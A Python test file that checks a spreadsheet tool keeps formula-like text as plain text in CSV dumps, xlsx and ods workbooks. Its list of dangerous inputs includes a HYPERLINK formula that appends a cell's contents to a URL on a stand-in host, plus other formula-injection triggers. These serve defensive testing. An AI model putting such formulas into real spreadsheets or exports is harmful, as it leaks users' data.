"""Text that looks like a formula stays text, in workbooks and in CSV meant for spreadsheets."""

import csv
import io
import zipfile

from support import OFFICE, TABLE, Workspace, convert, mesures, needs_python, needs_soffice, ods_text, sheet_rows, TEXT

DANGEROUS = ["=1+1", "+1+1", "-1-1", "@SUM(A1)", "\t=1+1", '=HYPERLINK("http://x.test/?"&A1;"voir")', "-", "+a"]
HARMLESS = ["a=1", "1-1", "'=1", " =1"]


@needs_python("openpyxl")
class CSVMeantForSpreadsheets(Workspace):
    def workbook(self):
        import openpyxl
        book = openpyxl.Workbook()
        sheet = book.active
        for row, text in enumerate(DANGEROUS + HARMLESS, start=1):
            cell = sheet.cell(row, 1)
            cell.value = text
            cell.data_type = "s"
            sheet.cell(row, 2).value = -row
            sheet.cell(row, 3).value = -row / 4
        path = self.folder / "textes.xlsx"
        book.save(path)
        return path

    def dumped(self, path, *more):
        done = mesures("dump", path, "--format", "csv", *more)
        self.assertDone(done)
        return list(csv.reader(io.StringIO(done.out.decode("utf-8"), newline="")))

    def assertSafe(self, path):
        texts = DANGEROUS + HARMLESS
        plain = self.dumped(path)
        self.assertEqual([row[0] for row in plain], texts, "nothing is changed unless it is asked for")
        safe = self.dumped(path, "--csv-safe")
        self.assertEqual([row[0] for row in safe], ["'" + text for text in DANGEROUS] + HARMLESS)
        self.assertEqual([row[1:] for row in safe], [row[1:] for row in plain], "numbers are not touched")
        self.assertEqual(float(safe[0][2]), -0.25)

    def test_dump_of_xlsx(self):
        self.assertSafe(self.workbook())

    @needs_soffice
    def test_dump_of_ods(self):
        self.assertSafe(convert(self.workbook(), self.folder, "ods"))

    @needs_soffice
    def test_a_spreadsheet_program_sees_text(self):
        done = mesures("dump", self.workbook(), "--format", "csv", "--csv-safe")
        path = self.folder / "sur.csv"
        path.write_bytes(done.out)
        rows = next(iter(sheet_rows(convert(path, self.folder, "xlsx")).values()))
        for row, text in zip(rows, DANGEROUS):
            # LibreOffice shows the apostrophe of a CSV or takes it for its own sign of text; it computes nothing.
            self.assertIn(row[0].lstrip("'"), (text, text.strip()), row)


@needs_python("openpyxl")
@needs_python("lxml")
class Workbooks(Workspace):
    """`annotate` writes text as text, in both formats."""

    def annotated(self, source, name):
        columns = self.folder / "colonnes.csv"
        with open(columns, "w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file)
            writer.writerow(["row", "=Avis"])
            for row, text in enumerate(DANGEROUS + HARMLESS, start=2):
                writer.writerow([row, text])
        output = self.folder / name
        self.assertDone(mesures("annotate", source, "--with", columns, "-o", output, "--verify"))
        return output

    def plain(self):
        import openpyxl
        book = openpyxl.Workbook()
        for row in range(1, len(DANGEROUS + HARMLESS) + 2):
            book.active.cell(row, 1).value = row
        path = self.folder / "nombres.xlsx"
        book.save(path)
        return path

    def test_xlsx(self):
        import openpyxl
        output = self.annotated(self.plain(), "avis.xlsx")
        sheet = openpyxl.load_workbook(output).active
        self.assertEqual((sheet["B1"].value, sheet["B1"].data_type), ("=Avis", "s"))
        for row, text in enumerate(DANGEROUS + HARMLESS, start=2):
            self.assertEqual((sheet.cell(row, 2).value, sheet.cell(row, 2).data_type), (text, "s"))
        with zipfile.ZipFile(output) as container:
            self.assertNotIn(b"<f>", container.read("xl/worksheets/sheet1.xml"))

    @needs_soffice
    def test_ods(self):
        from lxml import etree
        output = self.annotated(convert(self.plain(), self.folder, "ods"), "avis.ods")
        with zipfile.ZipFile(output) as container:
            root = etree.fromstring(container.read("content.xml"))
        cells = [cell for cell in root.iter(TABLE + "table-cell") if cell.get(OFFICE + "value-type") == "string"]
        self.assertEqual([cell.get(TABLE + "formula") for cell in cells], [None] * len(cells))
        texts = ["\n".join(ods_text(line) for line in cell.findall(TEXT + "p")) for cell in cells]
        self.assertEqual(texts, ["=Avis"] + DANGEROUS + HARMLESS)

    @needs_soffice
    def test_libreoffice_computes_none_of_them(self):
        for name in ("avis.xlsx", "avis.ods"):
            with self.subTest(name):
                source = self.plain() if name.endswith("xlsx") else convert(self.plain(), self.folder, "ods")
                rows = next(iter(sheet_rows(convert(self.annotated(source, name), self.folder / name.replace(".", "-"), "xlsx")).values()))
                # LibreOffice leaves out a tab at the start when it goes from one format to the other.
                self.assertEqual([row[1].lstrip("\t") for row in rows[1:]], [text.lstrip("\t") for text in DANGEROUS + HARMLESS])
